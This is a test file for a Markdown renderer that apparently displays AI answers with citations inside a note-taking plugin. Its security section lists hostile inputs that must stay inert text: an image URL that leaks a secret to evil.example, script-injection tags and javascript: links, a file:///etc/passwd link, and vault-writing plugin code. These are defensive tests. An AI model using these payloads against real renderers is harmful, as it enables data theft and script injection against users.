import fc from 'fast-check';
import { markClaims } from '../../../src/ui/render/claim-signs';
import type { Known } from '../../../src/ui/render/inline';
import { parse } from '../../../src/ui/render/parse';
import { StreamParser } from '../../../src/ui/render/stream';
import type { Block, Inline } from '../../../src/ui/render/tree';

const known = (...numbers: number[]): Known => ({ numbers: new Set(numbers), claims: 0 });
const text = (written: string): Inline => ({ type: 'text', text: written });
const paragraph = (...children: Inline[]): Block => ({ type: 'paragraph', children });
/** What is drawn for text that means nothing: itself. */
const literal = (written: string): Block[] => [paragraph(text(written))];

/** All words of a tree, in reading order. */
function wordsOf(blocks: readonly Block[]): string {
  const inline = (child: Inline): string => {
    if (child.type === 'citation') return `[${String(child.n)}]`;
    if (child.type === 'claim') return '';
    return 'children' in child ? child.children.map(inline).join('') : child.text;
  };
  return blocks.map((block) => {
    if (block.type === 'code') return block.text;
    if (block.type === 'list') return block.items.map(wordsOf).join(' ');
    return block.type === 'quote' ? wordsOf(block.children) : block.children.map(inline).join('');
  }).join(' ');
}

describe('what an answer may hold', () => {
  it('draws paragraphs, headings, emphasis and code', () => {
    expect(parse('## The *mill*\n\nIt **burnt** in `1797`,\nand ***never*** again.', known())).toEqual([
      { type: 'heading', children: [text('The '), { type: 'emphasis', children: [text('mill')] }] },
      paragraph(
        text('It '), { type: 'strong', children: [text('burnt')] }, text(' in '), { type: 'code', text: '1797' }, text(',\nand '),
        { type: 'strong', children: [{ type: 'emphasis', children: [text('never')] }] }, text(' again.'),
      ),
    ]);
  });

  it('draws lists within lists, with the first number as it is', () => {
    expect(parse('3. one\n   - in\n     on\n4. two\n\n   more\n\nafter', known())).toEqual([
      {
        type: 'list', first: 3, items: [
          [paragraph(text('one')), { type: 'list', first: null, items: [[paragraph(text('in\non'))]] }],
          [paragraph(text('two')), paragraph(text('more'))],
        ],
      },
      paragraph(text('after')),
    ]);
  });

  it('does not take a year at a line\'s start for an item', () => {
    expect(parse('It was built in\n1812. It burnt.', known())).toEqual(literal('It was built in\n1812. It burnt.'));
  });

  it('keeps words with underscores, lone stars and escaped marks', () => {
    expect(parse('snake_case_name, 2 * 3 * 4, \\*so\\*, **open', known())).toEqual(literal('snake_case_name, 2 * 3 * 4, *so*, **open'));
  });

  it('keeps rows of a table as rows', () => {
    expect(parse('| a | b |\n|---|---|\n| 1 | 2 |', known())).toEqual(literal('| a | b |\n|---|---|\n| 1 | 2 |'));
  });
});

describe('citations', () => {
  it('are numbers of passages that there are', () => {
    expect(parse('So it was [1][2][3].', known(1, 2, 3))).toEqual([paragraph(
      text('So it was '), { type: 'citation', n: 1 }, { type: 'citation', n: 2 }, { type: 'citation', n: 3 }, text('.'),
    )]);
  });

  it('are text where there is no such passage', () => {
    expect(parse('So [4], [^1], [1x].', known(1))).toEqual(literal('So [4], [^1], [1x].'));
  });

  it('are text in code', () => {
    expect(parse('`[1]`', known(1))).toEqual([paragraph({ type: 'code', text: '[1]' })]);
  });
});

describe('signs of claims', () => {
  it('stand after the sentence and its numbers', () => {
    const marked = markClaims('It burnt. [1][2] It was *rebuilt* [1]. Was it?', [{ text: 'It burnt.' }, { text: 'It was *rebuilt*.' }, { text: 'missing' }]);
    expect(parse(marked, { numbers: new Set([1, 2]), claims: 3 })).toEqual([paragraph(
      text('It burnt. '), { type: 'citation', n: 1 }, { type: 'citation', n: 2 }, { type: 'claim', claim: 0 },
      text(' It was '), { type: 'emphasis', children: [text('rebuilt')] }, text(' '), { type: 'citation', n: 1 }, text('.'), { type: 'claim', claim: 1 },
      text(' Was it?'),
    )]);
  });

  it('are not in code', () => {
    const marked = markClaims('`x = 1` is.\n\n```\nalert(1)\n```', [{ text: '`x = 1` is.' }, { text: 'alert(1)' }]);
    expect(parse(marked, { numbers: new Set(), claims: 2 })).toEqual([
      paragraph({ type: 'code', text: 'x = 1' }, text(' is.'), { type: 'claim', claim: 0 }), { type: 'code', text: 'alert(1)' },
    ]);
  });

  it('cannot be written by a model', () => {
    expect(parse(markClaims('False.\ue000 True.', [{ text: 'True.' }]), { numbers: new Set(), claims: 1 }))
      .toEqual([paragraph(text('False.\ufffd True.'), { type: 'claim', claim: 0 })]);
    expect(parse('False.\ue000', known())).toEqual(literal('False.\ue000'));
  });
});

describe('what never runs', () => {
  const WRITES = "await app.vault.create('x.md', 'x')";

  it('S-01: a block for a plugin is code without a language', () => {
    expect(parse(`\`\`\`dataviewjs\n${WRITES}\n\`\`\``, known())).toEqual([{ type: 'code', text: WRITES }]);
  });

  it.each([
    ['tildes', `~~~DataviewJS\n${WRITES}\n~~~`],
    ['a longer fence', `\`\`\`\`dataviewjs\n${WRITES}\n\`\`\`\``],
    ['unfinished', `\`\`\`dataviewjs\n${WRITES}`],
  ])('S-02: %s', (_, written) => {
    expect(parse(written, known())).toEqual([{ type: 'code', text: WRITES }]);
  });

  it.each([
    ['in a quotation', `> \`\`\`dataviewjs\n> ${WRITES}\n> \`\`\``, 'quote'],
    ['in a list', `- \`\`\`dataviewjs\n  ${WRITES}\n  \`\`\``, 'list'],
  ])('S-02: %s', (_, written, type) => {
    const [block, ...more] = parse(written, known());
    const inner = block.type === 'quote' ? block.children : block.type === 'list' ? block.items[0] : [];
    expect([block.type, inner, more]).toEqual([type, [{ type: 'code', text: WRITES }], []]);
  });

  it('S-03: inline queries are plain code', () => {
    expect(parse('`$= dv.pages()` `= this.x`', known())).toEqual([paragraph({ type: 'code', text: '$= dv.pages()' }, text(' '), { type: 'code', text: '= this.x' })]);
  });

  it.each(['query', 'meta-bind-button', 'button', 'mermaid'])('S-05: %s is plain code', (language) => {
    expect(parse(`\`\`\`${language}\nclick A href "javascript:alert(1)"\n\`\`\``, known())).toEqual([{ type: 'code', text: 'click A href "javascript:alert(1)"' }]);
  });

  it.each([
    ['S-07: an image of another host', '![x](https://evil.example/?q=SECRET)'],
    ['S-07: with emphasis in the address', '![x](https://evil.example/?q=*a*_b_[1])'],
    ['S-08: an image by reference', '![x][7]\n[7]: https://evil.example/a*b*'],
    ['S-09: tags', '<img src=x onerror=alert(1)> <svg onload=alert(1)> <iframe src="x"></iframe> <video poster=x> <p style="background:url(x)">'],
    ['S-10: embeds', '![[Private note]] and ![[file.pdf]]'],
    ['S-11: a link shows its target', '[click](https://evil/?d=1*2*3)'],
    ['S-12: schemes', '[a](obsidian://open?vault=x) [b](file:///etc/passwd) [c](javascript:alert(1)) [d](data:text/html,x) [e](zotero://select/x) [f](app://x)'],
    ['S-13: a link that names another address', '[https://good.example](https://evil.example)'],
    ['S-22: a name that is a tag', '<img src=x onerror=alert(1)>.pdf'],
    ['S-24: text that ends an element', '</div><script>alert(1)</script>'],
    ['entities', '&lt;b&gt; &#60;'],
    ['formulas, comments, footnotes, tags', '$x$ %%hidden%% [^1] #tag ==mark== ~~gone~~'],
  ])('%s is text', (_, written) => {
    expect(parse(written, known())).toEqual(literal(written));
  });
});

/** Pieces out of which everything that means something can come. */
const markdown = fc.array(fc.constantFrom(
  'a', ' ', '  ', '\n', '\n\n', '\r\n', '\t', '*', '**', '_', '`', '```', '~~~', '- ', '-', '1. ', '12) ', '> ', '>', '# ', '#', '[1]', '[2]', '[', ']', '](', ')', '\\', '://', '😀', '|', 'word ',
), { maxLength: 60, size: 'max' }).map((pieces) => pieces.join(''));

describe('a text that grows', () => {
  it('S-06: is one tree in the end, whatever the pieces that it came in', () => {
    fc.assert(fc.property(markdown, fc.array(fc.nat(4), { minLength: 1, maxLength: 1000 }), (written, steps) => {
      const parser = new StreamParser(known(1, 2));
      const finished: Block[] = [];
      let open: Block[] = [];
      for (let at = 0, i = 0; at < written.length; i += 1) {
        at = Math.min(written.length, at + steps[i % steps.length] + (i % 2));
        const update = parser.update(written.slice(0, at));
        finished.push(...update.finished);
        open = update.open;
      }
      expect([...finished, ...open]).toEqual(parse(written, known(1, 2)));
    }), { numRuns: 300 });
  });

  it('S-06: of a thousand pieces, has each block finished once', () => {
    const written = Array.from({ length: 500 }, (_, i) => `Sentence ${String(i)} [1].\n\n`).join('');
    const parser = new StreamParser(known(1));
    let finished = 0;
    for (let at = 0; at <= 1000; at += 1) finished += parser.update(written.slice(0, Math.ceil(written.length * at / 1000))).finished.length;
    expect(finished).toBe(499);
  });
});

describe('any text', () => {
  it('loses no letter', () => {
    fc.assert(fc.property(markdown.filter((written) => !/```|~~~/.test(written)), (written) => {
      const letters = (of: string): string => of.replace(/[^a-z😀|]/gu, '');
      expect(letters(wordsOf(parse(written, known(1, 2))))).toBe(letters(written));
    }), { numRuns: 500 });
  });

  const HOSTILE = [
    'a-', '((((', '> > >', '[[[[', '[1', '[1,', '](', '](x', '://', '*', '**a', '*a', '_', '*a **b ', '`', '``a`', '`'.repeat(3), '```\n', '- ', '- - ', '  - a\n', '1. ', '1.\n', '# ', '#', '\\', '\n', '\n\n', '> \n', '\t', ' ', '~~~', '| a ', '\ue000', '😀', '\ud800',
  ];
  it.each(HOSTILE.map((piece) => [JSON.stringify(piece), piece]))('S-31: 100 000 × %s takes linear time', (_, piece) => {
    const { finished, open } = new StreamParser({ numbers: new Set([1]), claims: 1 }).update(piece.repeat(100_000));
    expect(finished.length + open.length).toBeGreaterThan(piece.trim() === '' ? -1 : 0);
  });

  it('S-31: backticks of every length take linear time', () => {
    const runs = Array.from({ length: 2000 }, (_, i) => '`'.repeat(i + 1)).join(' ');
    expect(wordsOf(parse(`x${runs}`, known()))).toBe(`x${runs}`);
  });
});
